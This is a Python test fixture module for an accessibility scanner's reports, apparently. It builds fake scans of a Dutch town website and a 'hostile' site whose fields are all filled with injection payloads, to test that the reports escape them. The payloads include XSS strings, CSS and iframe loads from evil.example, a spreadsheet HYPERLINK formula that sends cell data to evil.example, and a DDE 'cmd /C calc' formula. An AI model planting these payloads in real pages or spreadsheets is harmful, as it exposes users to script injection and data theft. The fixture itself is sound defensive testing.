"""A scan that never was: every kind of outcome, issue and text, and page content that means harm."""

import struct
import zlib
from collections.abc import Collection, Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from itertools import islice
from typing import Any

from drempel.i18n import Catalogue, catalogue
from drempel.inclusion.limits import limits_of
from drempel.inclusion.tally import ask
from drempel.model.answer import Asked, Place, Said, Unit
from drempel.model.comparison import PanelChange
from drempel.model.document import JudgedDocument
from drempel.model.finding import (
    Advice,
    CheckInfo,
    CheckTally,
    Finding,
    Impact,
    Kind,
    Mender,
    Outcome,
    Pointer,
    Source,
)
from drempel.model.inclusion import SeenPage
from drempel.model.indicator import IndicatorValue
from drempel.model.issue import Issue, IssueState, TrendLabel
from drempel.model.report import CheckCoverage, PageSummary, ReportHeader, TrendPoint
from drempel.model.scan import Scan, ScanSettings, ScanState, Tools
from drempel.model.service import SeenAt
from drempel.model.shots import Shot
from drempel.model.snapshot import Coverage, FetchOutcome, FetchRecord, Reason
from drempel.model.template import PageTemplate
from drempel.model.text import Difficulty, HardSentence, Score, TextMetrics, TextProfile
from tests.reports.document_samples import document_issues, hostile_documents, town_documents
from tests.reports.seen_pages import hostile_pages, town_pages

START = "https://www.zilverbeek.example/"
NOW = datetime(2026, 11, 24, 8, 5, tzinfo=UTC)

HOSTILE = (
    '"><script>document.title="hit"</script>',
    "<img src=x onerror=\"document.title='hit'\">",
    "<svg/onload=document.title='hit'>",
    "</style><script>document.title='hit'</script>",
    "--><script>document.title='hit'</script><!--",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/y.css">',
    '<iframe src="https://evil.example/"></iframe>',
    "javascript:document.title='hit'",
    "' onfocus='document.title=1' autofocus='",
    "{{ 7 * 7 }} {% raw %} {0.__class__} {title}",
    "omgekeerd \u202etxt.exe\u202c en \u2066verborgen\u2069",
    "stuur\x00tekens \x1b[2J\x1b]0;hit\x07 \x9b31m",
    "half teken \ud83d en geen teken \uffff",
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "punt;komma \"aanhaling\" 'enkel'\nnieuwe regel\r\nen nog een",
    "]]></script><!-- &amp;lt;",
    "A" * 10_000,
)

DUTCH = {
    ("axe:image-alt", "Image has no text alternative"): "Een afbeelding heeft geen tekst",
    (
        "axe:image-alt",
        "Describe the picture in its alt attribute.",
    ): "Beschrijf de afbeelding in een korte tekst (alt).",
    ("axe:image-alt", "The picture “{name}” has no alt."): "De afbeelding “{name}” heeft geen alt-tekst.",
    ("axe:color-contrast", "Text has too little contrast"): "Een tekst valt te weinig op",
    (
        "axe:color-contrast",
        "Choose a darker text colour or a lighter background.",
    ): "Kies een donkerdere tekst of een lichtere achtergrond.",
    (
        "axe:color-contrast",
        "The contrast is {ratio}, {wanted} is needed.",
    ): "Het contrast is {ratio}. Nodig is {wanted}.",
    ("axe:label", "Form field has no label"): "Een invulveld heeft geen naam",
    ("axe:label", "Put a label with the field."): "Zet een label bij het veld.",
    ("axe:region", "Content stands outside the landmarks"): "Een deel van de pagina staat buiten de indeling",
    (
        "axe:region",
        "Put all content inside header, nav, main or footer.",
    ): "Zet alle inhoud in header, nav, main of footer.",
    ("axe:target-size", "Target is too small to touch"): "Een knop of link is te klein om aan te raken",
    (
        "axe:target-size",
        "Make the target at least 24 by 24 pixels.",
    ): "Maak de knop of link minstens 24 bij 24 pixels groot.",
    ("axe:video-caption", "Video has no captions"): "Een video heeft geen ondertitels",
    ("axe:video-caption", "Add captions to the video."): "Voeg ondertitels toe aan de video.",
    ("axe:color-contrast-enhanced", "Text lacks enhanced contrast"): "Een tekst heeft geen extra contrast",
    ("axe:color-contrast-enhanced", "Raise the contrast to 7:1."): "Maak het contrast 7 op 1.",
    (
        "alt-text-is-filename",
        "Text alternative is a file name",
    ): "De tekst bij een afbeelding is een bestandsnaam",
    (
        "alt-text-is-filename",
        "Say in words what the picture shows.",
    ): "Zeg in woorden wat de afbeelding toont.",
    ("alt-text-is-filename", "The text alternative “{alt}” is a file name."): "“{alt}” is een bestandsnaam.",
    ("link-text-says-nothing", "Link text says nothing"): "Een linktekst zegt niets",
    (
        "link-text-says-nothing",
        "Name the page that the link leads to.",
    ): "Noem de pagina waar de link heen gaat.",
    ("phone-is-only-text", "Phone number cannot be tapped"): "U kunt een telefoonnummer niet aantikken",
    ("phone-is-only-text", "Make the number a link."): "Maak van het nummer een link.",
    ("heading-order-jumps", "Heading level is skipped"): "Een tussenkop slaat een niveau over",
    ("heading-order-jumps", "Use heading levels in order."): "Gebruik de niveaus van koppen op volgorde.",
}
"""The Dutch of the checks below; the real ones have theirs in the catalogue."""


RULE_PAGES = {
    ("axe:image-alt", "nl"): "# Een afbeelding heeft geen tekst\n\nControle: `axe:image-alt`\n\n"
    "## Wat is er mis\n\nEen *afbeelding* zonder tekst.\n\n## Voorbeeld fout\n\n"
    "```html\n<img src=\"markt.jpg\">\n<script>document.title='hit'</script>\n```\n\n"
    "## Eisen\n\n- WCAG 1.1.1 Niet-tekstuele content (niveau A)\n"
    "- [klik](javascript:document.title='hit') <b onclick=x>vet</b> [W3C](https://www.w3.org/)\n",
    ("axe:label", "en"): "# Form field has no label\n\n## What is wrong\n\nA field without a label.\n",
}
"""Pages of checks, by id and language."""


def words_in(language: str) -> Catalogue:
    """Return a catalogue; the Dutch one knows the checks of this file."""
    return dutch() if language == "nl" else catalogue(language)


def dutch() -> Catalogue:
    """Return the Dutch catalogue with the words of the checks of this file."""
    real = catalogue("nl")
    return replace(real, _messages={**real.messages(), **{key: (text,) for key, text in DUTCH.items()}})


OF_CONTENT = frozenset(
    ("axe:image-alt", "alt-text-is-filename", "link-text-says-nothing", "heading-order-jumps")
)
"""What editors can mend too."""


def info(
    check: str,
    kind: Kind,
    impact: Impact,
    requirements: tuple[str, ...] = (),
    who: str = "",
    messages: Mapping[str, str] | None = None,
) -> CheckInfo:
    """Return a check whose English words are the keys of `DUTCH`."""
    title, repair = [msgid for context, msgid in DUTCH if context == check][:2]
    source = Source.AXE if check.startswith("axe:") else Source.DREMPEL
    mender = Mender.BOTH if check in OF_CONTENT else Mender.DEVELOPER
    said = messages or {}
    return CheckInfo(check, source, kind, impact, requirements, (), title, repair, who, said, (), mender)


INFOS = {
    one.id: one
    for one in (
        info(
            "axe:image-alt",
            Kind.NORM,
            Impact.CRITICAL,
            ("1.1.1",),
            messages={"missing": "The picture “{name}” has no alt."},
        ),
        info(
            "axe:color-contrast",
            Kind.NORM,
            Impact.SERIOUS,
            ("1.4.3",),
            messages={"low": "The contrast is {ratio}, {wanted} is needed."},
        ),
        info("axe:label", Kind.NORM, Impact.CRITICAL, ("4.1.2", "1.3.1")),
        info("axe:region", Kind.PRACTICE, Impact.MODERATE, who="blind"),
        info("axe:target-size", Kind.NORM, Impact.SERIOUS, ("2.5.8",)),
        info("axe:video-caption", Kind.NORM, Impact.CRITICAL, ("1.2.2",)),
        info("axe:color-contrast-enhanced", Kind.BEYOND, Impact.MINOR, ("1.4.6",)),
        info(
            "alt-text-is-filename",
            Kind.NORM,
            Impact.SERIOUS,
            ("1.1.1",),
            messages={"filename": "The text alternative “{alt}” is a file name."},
        ),
        info("link-text-says-nothing", Kind.NORM, Impact.MODERATE, ("2.4.4",)),
        info("phone-is-only-text", Kind.PRACTICE, Impact.MINOR, who="old-phone"),
        info("heading-order-jumps", Kind.NORM, Impact.MINOR, ("1.3.1",)),
    )
}


def finding(
    check: str,
    key: str = "",
    *,
    outcome: Outcome = Outcome.FAILED,
    snippet: str = "",
    selector: str = "main > p",
    sources: tuple[Source, ...] = (),
    place: str = "",
    structure: str = "",
    **params: str,
) -> Finding:
    """Return a finding of one of the checks above."""
    about = INFOS[check]
    return Finding(
        check,
        outcome,
        about.impact,
        about.kind,
        Pointer(selector, snippet, structure, place),
        key,
        params,
        about.requirements,
        about.act,
        sources or (about.source,),
        fingerprint=f"f1:{check}",
    )


def issue(
    number: int,
    example: Finding,
    label: TrendLabel | None,
    pages: int = 1,
    url: str = START,
    occurrences: int | None = None,
) -> Issue:
    """Return an issue around one finding."""
    return Issue(
        id=f"I{number:03}",
        fingerprint=f"f1:{number:032x}",
        check=example.check,
        outcome=example.outcome,
        impact=example.impact,
        kind=example.kind,
        requirements=example.requirements,
        sources=example.sources,
        state=IssueState.RESOLVED if label is TrendLabel.RESOLVED else IssueState.OPEN,
        label=label,
        first_seen_at=NOW if label is TrendLabel.NEW else NOW - timedelta(days=60),
        last_seen_at=NOW,
        pages=pages,
        occurrences=occurrences or pages,
        example=example,
        example_url=url,
    )


def page(
    path: str,
    title: str,
    *,
    outcome: FetchOutcome = FetchOutcome.OK,
    reason: Reason | None = None,
    failed: int = 0,
    cant_tell: int = 0,
    text: TextProfile | None = None,
    status: int | None = 200,
    screenshot: str = "",
    template: int | None = None,
    **more: object,
) -> PageSummary:
    """Return one address; `path` may be a whole address."""
    url = path if ":" in path else START + path
    record = FetchRecord(
        url=url,
        page_url=url,
        outcome=outcome,
        reason=reason,
        final_url=url,
        status=status,
        fetched_at=NOW,
        duration_ms=412,
    )
    record = replace(record, **more)  # type: ignore[arg-type]  # keyword arguments of FetchRecord
    tallies = (CheckTally("axe:image-alt", Outcome.PASSED, passed=3),) if outcome is FetchOutcome.OK else ()
    return PageSummary(record, title, failed, cant_tell, text, tallies, screenshot, template)


def text(
    url: str,
    ease: float | None,
    *,
    reason: str = "",
    language: str = "nl",
    hardest: tuple[HardSentence, ...] = (),
) -> TextProfile:
    """Return a profile with the three scores, or with the reason why there is none."""
    if ease is None:
        return TextProfile(url, language, "nl", {language: 40}, None, (), hardest, reason)
    metrics = TextMetrics(
        words=420,
        sentences=30,
        syllables=760,
        long_words=110,
        long_sentences=6,
        words_per_sentence=14.0,
        syllables_per_word=1.81,
        letters_per_word=5.1,
        long_words_percent=26.2,
    )
    scores = (
        Score("flesch-douma", "1", ease, "higher-is-easier", indicative=ease > 60),
        Score("leesindex-a", "1", ease + 2.5, "higher-is-easier"),
        Score("lix", "1", 48.3, "higher-is-harder"),
    )
    hard = 100 - ease
    meets_b1 = "yes" if hard < 37 else "doubt" if hard <= 43 else "no"
    difficulty = Difficulty("1", hard, hard - 3, hard + 3, 1 + int(hard // 20), meets_b1, ease > 60)
    return TextProfile(url, language, "nl", {"nl": 420}, metrics, scores, hardest, difficulty=difficulty)


def png(red: int, green: int, blue: int, width: int = 96, height: int = 72) -> bytes:
    """Return a PNG of one colour with a lighter band on top."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    band, rest = bytes((red, green, blue)) * width, bytes((240, 240, 236)) * width
    rows = b"".join(b"\0" + (band if y < height // 5 else rest) for y in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


LONG = HardSentence(
    "Met het oog op de bekendmaking van de beslissing die door het college van burgemeester en schepenen "
    "op grond van het verzoek van de betrokkene werd genomen, wordt deze laatste ervan in kennis gesteld "
    "dat binnen een termijn van dertig dagen bezwaar kan worden aangetekend.",
    46,
    ("long-sentence", "formal-word", "passive-without-actor"),
    "main > p:nth-child(3)",
    ((0, 14, "formal-word"), (147, 162, "passive-without-actor")),
    (
        Advice("This sentence has {words} words. Make two or more of it.", {"words": "46"}),
        Advice("“{word}” is a roundabout way. Write: {plain}.", {"word": "Met het oog op", "plain": "voor"}),
    ),
)
SECOND = HardSentence(
    "De belastingplichtige die nalaat om binnen de voorgeschreven aangiftetermijn het daartoe bestemde "
    "aangifteformulier in te dienen, wordt ambtshalve aangeslagen.",
    20,
    ("long-words", "passive"),
    "main p",
)


def indicators(open_issues: int, ratio: float | None, hard: int, ease: float) -> tuple[IndicatorValue, ...]:
    """Return five indicators of one scan."""
    return (
        IndicatorValue("flesch-douma-median", 1, ease, "points", "up-is-better"),
        IndicatorValue("hard-pages", 2, hard / 18, "ratio", "down-is-better", hard, 18),
        IndicatorValue("open-issues", 1, open_issues, "count", "down-is-better"),
        IndicatorValue(
            "pages-with-failure",
            1,
            ratio,
            "ratio",
            "down-is-better",
            None if ratio is None else round(ratio * 24),
            24,
            "" if ratio is not None else "empty-sample",
        ),
        IndicatorValue(
            "readable-pages",
            1,
            (16 - hard) / 18,
            "ratio",
            "up-is-better",
            16 - hard,
            18,
            low=0.33,
            high=0.75,
        ),
    )


def scan(number: int = 6, state: ScanState = ScanState.COMPLETE, standard: str = "en301549-3.2.1") -> Scan:
    """Return a scan; each lower number is thirty days earlier."""
    started = NOW - timedelta(days=30 * (6 - number))
    return Scan(
        id=f"01JDREMPELSCAN{number:012}",
        entity_id="gemeente-zilverbeek",
        site_id=START,
        state=state,
        settings=ScanSettings(
            standard, ("phone-is-only-text",), "1280x1024", 500, None, None, True, 1.0, "playwright"
        ),
        tools=Tools("0.1.0", "4.12.1", "ab" * 32, "chromium 139 (playwright 1.55)", {"axe:image-alt": 1}),
        started_at=started,
        finished_at=started + timedelta(minutes=9),
    )


@dataclass
class FakeSource:
    """A `ReportSource` out of lists."""

    header: ReportHeader
    indicator_values: Sequence[IndicatorValue] = ()
    trend_points: Sequence[TrendPoint] = ()
    coverages: Sequence[CheckCoverage] = ()
    issue_list: Sequence[Issue] = ()
    page_list: Sequence[PageSummary] = ()
    pages_of: Mapping[str, Sequence[str]] = field(default_factory=dict)
    screenshots: Mapping[str, bytes] = field(default_factory=dict)
    seen: Sequence[SeenPage] = ()
    asked_list: Sequence[Asked] = ()
    panel_change: PanelChange | None = None
    shot_list: Mapping[str, Shot] = field(default_factory=dict)
    document_list: Sequence[JudgedDocument] = ()
    document_issue_list: Sequence[Issue] = ()

    def document_issues(self) -> Iterator[Issue]:
        return iter(self.document_issue_list)

    def document_findings(self, issue_id: str | None = None) -> Iterator[tuple[str, Finding]]:
        wanted = [one for one in self.document_issue_list if issue_id in {None, one.id}]
        names = {(one.example_url, one.check) for one in wanted if one.label is not TrendLabel.RESOLVED}
        for document in self.document_list:
            for found in document.findings:
                if (document.document.url, found.check) in names:
                    yield document.document.url, found

    def templates(self) -> Sequence[PageTemplate]:
        pages: dict[int, list[str]] = {}
        for one in self.pages():
            if one.template is not None:
                pages.setdefault(one.template, []).append(one.record.page_url)
        return sorted(
            (PageTemplate(number, len(urls), min(urls)) for number, urls in pages.items()),
            key=lambda one: (-one.pages, one.number),
        )

    def issue_templates(self) -> Mapping[str, Mapping[int, int]]:
        of_page = {one.record.page_url: one.template for one in self.pages()}
        found: dict[str, dict[int, int]] = {}
        for one in self.issues():
            for url in self.issue_pages(one.id, 10**9):
                if (number := of_page.get(url)) is not None and one.label is not TrendLabel.RESOLVED:
                    counts = found.setdefault(one.id, {})
                    counts[number] = counts.get(number, 0) + 1
        return found

    def marks(self) -> None:
        return None

    def seen_pages(self, *kinds: type[Any]) -> Iterator[SeenPage]:
        return iter(self.seen)

    def indicators(self) -> Sequence[IndicatorValue]:
        return self.indicator_values

    def asked(self) -> Sequence[Asked]:
        return self.asked_list

    def trend(self) -> Sequence[TrendPoint]:
        return self.trend_points

    def panel(self) -> PanelChange | None:
        return self.panel_change

    def checks(self) -> Sequence[CheckCoverage]:
        return self.coverages

    def issues(self) -> Iterator[Issue]:
        order = {label: rank for rank, label in enumerate(TrendLabel)}
        return iter(
            sorted(
                self.issue_list,
                key=lambda i: (
                    i.label is not None and order[i.label] == order[TrendLabel.RESOLVED],
                    -i.impact.rank,
                    -i.pages,
                    i.id,
                ),
            )
        )

    def findings(
        self,
        issue_id: str | None = None,
        *,
        checks: Collection[str] | None = None,
        urls: Sequence[str] | None = None,
        most: int | None = None,
    ) -> Iterator[tuple[str, Finding]]:
        return islice(
            (
                (url, one)
                for url, one in self.all_findings(issue_id)
                if (checks is None or one.check in checks) and (urls is None or url in urls)
            ),
            most,
        )

    def all_findings(self, issue_id: str | None = None) -> Iterator[tuple[str, Finding]]:
        for one in self.issue_list:
            if issue_id in {None, one.id} and one.label is not TrendLabel.RESOLVED:
                for url in self.issue_pages(one.id, 10**9):
                    yield url, one.example

    def issue_pages(self, issue_id: str, limit: int = 200) -> Sequence[str]:
        one = next(i for i in self.issue_list if i.id == issue_id)
        return tuple(self.pages_of.get(issue_id, (one.example_url,)))[:limit]

    def pages_of_issues(self, issue_ids: Collection[str], limit: int = 200) -> Mapping[str, Sequence[str]]:
        return {issue_id: self.issue_pages(issue_id, limit) for issue_id in issue_ids}

    def documents(self) -> Iterator[JudgedDocument]:
        return iter(self.document_list)

    def pages(self) -> Iterator[PageSummary]:
        return iter(self.page_list)

    def crop(self, page_url: str, fingerprint: str) -> None:
        return None

    def pictured(self) -> Mapping[str, str]:
        return dict.fromkeys(self.shot_list, START)

    def shots(self, page_url: str) -> Mapping[str, Shot]:
        return self.shot_list if page_url == START else {}

    def documentation(self, check_id: str, language: str) -> str | None:
        return RULE_PAGES.get((check_id, language))

    def screenshot(self, content_hash: str) -> bytes | None:
        return self.screenshots.get(content_hash)


def coverage_of(pages: Sequence[PageSummary], not_visited: int = 0, limit: str = "") -> Coverage:
    """Return the coverage that belongs to these addresses."""
    counts: dict[FetchOutcome, int] = {}
    for one in pages:
        counts[one.record.outcome] = counts.get(one.record.outcome, 0) + 1
    return Coverage(counts, not_visited, limit)


def answers(pages: Sequence[SeenPage]) -> tuple[Asked, ...]:
    """Return how the indicators are answered for these pages."""
    return ask(lambda *_kinds: iter(pages), limits_of(), is_whole=True)


def hostile_answers() -> tuple[Asked, ...]:
    """Return answers whose places are hostile."""
    places = tuple(Place(Said.NO, SeenAt(START + f"?{evil}", evil, evil)) for evil in HOSTILE[:20])
    return (Asked("KAN01", 1, Unit.PAGE, 1, 20, 1, places, {"not-told": 1}),)


def town() -> FakeSource:
    """Return a usual scan of a small town: 24 judged pages, a bit of everything."""
    names = (
        "Welkom in Zilverbeek",
        "Afval en recyclage",
        "Belastingen",
        "Bibliotheek",
        "Burgerzaken",
        "Contact en openingsuren",
        "Een attest aanvragen",
        "Een paspoort aanvragen",
        "Gemeenteraad",
        "Jeugd",
        "Kinderopvang",
        "Milieu en natuur",
        "Mobiliteit",
        "Nieuws",
        "Ondernemen",
        "Politie",
        "Privacy",
        "Sociaal Huis",
        "Sport",
        "Toegankelijkheid",
        "Verhuizen",
        "Vrije tijd",
        "Wonen",
        "Zwembad De Waterlelie",
    )
    pages = []
    for place, name in enumerate(names):
        path = "" if place == 0 else name.lower().replace(" ", "-")
        profile: TextProfile | None = text(
            START + path,
            30.0 + place * 2.3,
            hardest=(LONG,) if place in {2, 4} else (SECOND,) if place == 6 else (),
        )
        if place == 9:
            profile = text(START + path, None, reason="too-short")
        elif place == 15:
            profile = text(START + path, None, reason="not-dutch", language="fr")
        elif place == 21:
            profile = None
        pages.append(
            page(
                path,
                name,
                failed=(place * 7) % 11,
                cant_tell=place % 3,
                text=profile,
                screenshot="thumb-home" if place == 0 else "thumb-form" if place == 6 else "",
                notes=("overlay",) if place == 3 else (),
                template=2 if place == 0 else 3 if place == 6 else 1,
            )
        )
    pages += [
        page(
            "oud-nieuws",
            "",
            outcome=FetchOutcome.HTTP_ERROR,
            reason=Reason("status", "404"),
            status=404,
            found_on=START,
        ),
        page("archief", "", outcome=FetchOutcome.HTTP_ERROR, reason=Reason("status", "404"), status=404),
        page("kapot", "", outcome=FetchOutcome.HTTP_ERROR, reason=Reason("status", "500"), status=500),
        page(
            "traag",
            "",
            outcome=FetchOutcome.TIMEOUT,
            reason=Reason("navigation"),
            status=None,
            permanent=False,
        ),
        page("mijn-dossier", "", outcome=FetchOutcome.BLOCKED, reason=Reason("login-wall")),
        page("intern/", "", outcome=FetchOutcome.ROBOTS, reason=Reason("robots-rule"), status=None),
        page(
            "kalender?maand=2031-07", "", outcome=FetchOutcome.TRAP_CUT, reason=Reason("pattern"), status=None
        ),
        page(
            "reglement.pdf", "", outcome=FetchOutcome.NOT_HTML, reason=Reason("media-type", "application/pdf")
        ),
        page(
            "index.html", "", outcome=FetchOutcome.DUPLICATE, reason=Reason("canonical"), duplicate_of=START
        ),
        page("webshop", "", outcome=FetchOutcome.REDIRECTED_OUT_OF_SCOPE, reason=Reason("redirect")),
    ]
    form = START + "een-attest-aanvragen"
    everywhere = [one.record.page_url for one in pages[:24]]
    issues = [
        issue(
            1,
            finding(
                "axe:label",
                snippet='<input type="text" name="rijksregisternummer" class="veld veld--breed">',
                selector="#aanvraag > div:nth-child(2) > input",
            ),
            TrendLabel.PERSISTING,
            3,
            form,
            5,
        ),
        issue(
            2,
            finding(
                "axe:image-alt",
                "missing",
                name="markt.jpg",
                snippet='<img src="/img/markt.jpg" class="held">',
                selector="header > img",
                place="header",
                structure="img.held",
            ),
            TrendLabel.NEW,
            24,
            START,
            24,
        ),
        issue(
            3,
            finding(
                "axe:color-contrast",
                "low",
                ratio="2,9:1",
                wanted="4,5:1",
                snippet='<a class="btn btn-licht" href="/wonen">Meer over wonen</a>',
                selector="main > section.tegels > a:nth-child(4)",
                structure="section.tegels>a.btn--licht",
            ),
            TrendLabel.REGRESSED,
            8,
            START,
            19,
        ),
        issue(
            4,
            finding(
                "alt-text-is-filename",
                "filename",
                alt="IMG_20260412.JPG",
                sources=(Source.AXE, Source.DREMPEL),
                snippet='<img src="/u/1.jpg" alt="IMG_20260412.JPG">',
                selector="article img",
            ),
            TrendLabel.PERSISTING,
            2,
            START + "nieuws",
        ),
        issue(
            5,
            finding(
                "link-text-says-nothing", snippet='<a href="/afval">Klik hier</a>', selector="article > p > a"
            ),
            TrendLabel.NEW,
            6,
            START + "afval-en-recyclage",
            9,
        ),
        issue(
            6,
            finding("heading-order-jumps", snippet="<h4>Openingsuren</h4>", selector="main > h4"),
            TrendLabel.PERSISTING,
            1,
            START + "zwembad-de-waterlelie",
        ),
        issue(
            7,
            finding(
                "axe:target-size",
                snippet='<a href="#" class="ster">★</a>',
                selector="footer a.ster",
                place="footer",
                structure="a.ster",
            ),
            TrendLabel.PERSISTING,
            24,
            START,
        ),
        issue(
            8,
            finding(
                "axe:color-contrast",
                outcome=Outcome.CANT_TELL,
                selector="header h1",
                snippet="<h1>Welkom in Zilverbeek</h1>",
            ),
            TrendLabel.PERSISTING,
            1,
        ),
        issue(
            9,
            finding("axe:region", selector="body > div.melding", snippet='<div class="melding">Let op</div>'),
            TrendLabel.NEW,
            24,
            START,
        ),
        issue(
            10,
            finding("axe:color-contrast-enhanced", selector="main p", snippet="<p>Tekst</p>"),
            TrendLabel.NEW,
            4,
        ),
        issue(
            11,
            finding("axe:label", selector="#zoek", snippet='<input id="zoek">'),
            TrendLabel.RESOLVED,
            12,
            START,
        ),
        issue(
            12,
            finding("link-text-says-nothing", selector="aside a", snippet='<a href="/x">Lees meer</a>'),
            TrendLabel.NOT_RECHECKED,
            1,
            START + "kapot",
        ),
    ]
    coverages = [
        CheckCoverage(one, {Outcome.PASSED: 10, Outcome.FAILED: 5, Outcome.INAPPLICABLE: 9})
        for one in INFOS.values()
        if one.id not in {"phone-is-only-text", "axe:video-caption"}
    ]
    coverages += [
        CheckCoverage(INFOS["axe:video-caption"], {Outcome.UNTESTED: 2, Outcome.INAPPLICABLE: 22}),
        CheckCoverage(INFOS["phone-is-only-text"], {}, disabled=True),
    ]
    history = [
        (9, 0.79, 9, 44.0),
        (8, 0.75, 8, 46.5),
        (11, 0.83, 8, 45.0),
        (8, None, 7, 48.0),
        (7, 0.67, 6, 49.5),
        (6, 0.62, 5, 51.0),
    ]
    trend = [
        TrendPoint(
            scan(n).id, scan(n).finished_at or NOW, indicators(*values), n == 3, ("axe",) if n == 3 else ()
        )
        for n, values in enumerate(history, 1)
    ]
    return FakeSource(
        ReportHeader(
            "Gemeente Zilverbeek",
            "gemeente-zilverbeek",
            (START,),
            scan(),
            coverage_of(pages),
            scan(5),
            {
                TrendLabel.NEW: 4,
                TrendLabel.PERSISTING: 5,
                TrendLabel.REGRESSED: 1,
                TrendLabel.RESOLVED: 1,
                TrendLabel.NOT_RECHECKED: 1,
            },
            NOW + timedelta(hours=1),
            documents_previous=scan(5),
            documents_trend={
                TrendLabel.NEW: 2,
                TrendLabel.PERSISTING: 2,
                TrendLabel.REGRESSED: 1,
                TrendLabel.RESOLVED: 1,
            },
        ),
        trend[-1].indicators,
        trend,
        coverages,
        issues,
        pages,
        {
            "I001": [form, START + "een-paspoort-aanvragen", START + "verhuizen"],
            "I002": everywhere,
            "I003": everywhere[:8],
            "I007": everywhere,
            "I009": everywhere,
        },
        {"thumb-home": png(11, 74, 99), "thumb-form": png(120, 60, 20)},
        town_pages(START),
        answers(town_pages(START)),
        shot_list={"f1:axe:color-contrast": Shot(png(150, 150, 150, 360, 140), 360, 140)},
        document_list=town_documents(START),
        document_issue_list=document_issues(town_documents(START), NOW),
    )


def hostile(payloads: Sequence[str] = HOSTILE) -> FakeSource:
    """Return a scan of a site that attacks its report: every field that a page can fill is hostile."""
    base = town()
    issues = [
        issue(
            100 + n,
            replace(finding("axe:image-alt", "missing", name=evil, snippet=evil, selector=evil)),
            TrendLabel.NEW,
            1,
            START + f"?q={n}&x=" + evil,
        )
        for n, evil in enumerate(payloads)
    ]
    pages = []
    for n, evil in enumerate(payloads):
        url = f"{START}{n}?{evil}"
        sentence = HardSentence(evil, 30 + n, ("long-sentence", evil), evil)
        pages.append(
            page(
                url,
                evil,
                failed=1,
                text=text(url, 40.0, hardest=(sentence,)),
                notes=(evil,),
                screenshot="script" if n == 0 else "",
            )
        )
        pages.append(
            page(
                evil if ":" in evil else f"javascript:{evil}",
                evil,
                outcome=FetchOutcome.UNSAFE,
                reason=Reason(evil, evil),
                found_on=evil,
                duplicate_of=evil,
            )
        )
    header = replace(
        base.header,
        entity_name="Stad <script>document.title='hit'</script> & Co",
        coverage=coverage_of(pages),
    )
    return replace(
        base,
        header=header,
        issue_list=issues,
        page_list=pages,
        pages_of={one.id: [one.example_url] for one in issues},
        screenshots={"script": b"<svg onload=alert(1)>"},
        seen=hostile_pages(START, payloads),
        asked_list=hostile_answers(),
        document_list=hostile_documents(START, payloads),
        document_issue_list=document_issues(hostile_documents(START, payloads), NOW),
    )


def clean() -> FakeSource:
    """Return a first scan that found nothing at all."""
    base = town()
    pages = [page("", "Welkom", text=text(START, 71.0))]
    header = replace(
        base.header,
        coverage=coverage_of(pages),
        previous=None,
        trend={},
        documents_previous=None,
        documents_trend={},
    )
    trend = base.trend_points[-1:]
    base = replace(base, seen=(), asked_list=(), document_list=(), document_issue_list=())
    return replace(base, header=header, trend_points=trend, issue_list=[], page_list=pages)


def nothing() -> FakeSource:
    """Return a scan that could not see a single page."""
    base = town()
    pages = [page("", "", outcome=FetchOutcome.TIMEOUT, reason=Reason("navigation"), status=None)]
    header = replace(
        base.header,
        coverage=coverage_of(pages, 3, "host-rested"),
        previous=None,
        trend={},
        documents_previous=None,
        documents_trend={},
        scan=replace(scan(state=ScanState.INCOMPLETE), finished_at=None),
    )
    return replace(
        base,
        header=header,
        trend_points=(),
        indicator_values=(),
        issue_list=[],
        page_list=pages,
        coverages=[replace(one, pages={}) for one in base.coverages],
        seen=(),
        asked_list=(),
        document_list=(),
        document_issue_list=(),
    )


@dataclass
class LargeSource(FakeSource):
    """Many pages, issues and findings, made while they are read."""

    page_count: int = 5_000
    issue_count: int = 300
    findings_per_issue: int = 667

    def issues(self) -> Iterator[Issue]:
        return (self._issue(n) for n in range(self.issue_count))

    def _issue(self, n: int) -> Issue:
        checks = sorted((c for c in INFOS.values()), key=lambda c: -c.impact.rank)
        about = checks[n * len(checks) // self.issue_count]
        return issue(
            n,
            self._finding(about.id, n),
            TrendLabel.NEW if n % 3 else TrendLabel.PERSISTING,
            min(self.findings_per_issue, self.page_count),
            self._url(n),
            self.findings_per_issue,
        )

    def _finding(self, check: str, n: int) -> Finding:
        return finding(
            check,
            snippet=f'<a class="knop knop-{n}" href="/pad/{n}">' + "x" * 300 + "</a>",
            selector=f"main > section:nth-child({n}) > div.kaart > a.knop-{n}",
        )

    def _url(self, n: int) -> str:
        return f"{START}thema-{n % 50}/een-vrij-lang-pad-naar-een-pagina-{n}"

    def all_findings(self, issue_id: str | None = None) -> Iterator[tuple[str, Finding]]:
        wanted = self.issues() if issue_id is None else iter([self._issue(int(issue_id[1:]))])
        for one in wanted:
            for n in range(self.findings_per_issue):
                yield self._url(n % self.page_count), one.example

    def issue_pages(self, issue_id: str, limit: int = 200) -> Sequence[str]:
        return tuple(self._url(n) for n in range(min(limit, self.findings_per_issue, self.page_count)))

    def documents(self) -> Iterator[JudgedDocument]:
        return iter(())

    def document_issues(self) -> Iterator[Issue]:
        return iter(())

    def document_findings(self, issue_id: str | None = None) -> Iterator[tuple[str, Finding]]:
        return iter(())

    def pages(self) -> Iterator[PageSummary]:
        for n in range(self.page_count):
            yield page(
                self._url(n),
                f"Een pagina met een gewone titel, nummer {n}",
                failed=n % 40,
                cant_tell=n % 3,
                text=text(self._url(n), 20.0 + n % 60, hardest=(LONG,)),
                template=1 + n % 12,
            )


def large(page_count: int = 5_000, issue_count: int = 300, findings_per_issue: int = 667) -> LargeSource:
    """Return a scan of a large site."""
    base = town()
    return LargeSource(
        replace(base.header, coverage=Coverage({FetchOutcome.OK: page_count})),
        base.indicator_values,
        base.trend_points,
        base.coverages,
        page_count=page_count,
        issue_count=issue_count,
        findings_per_issue=findings_per_issue,
    )


def medium() -> LargeSource:
    """Return a scan that needs tables in its index and more than one list of addresses."""
    return large(page_count=450, issue_count=60, findings_per_issue=210)
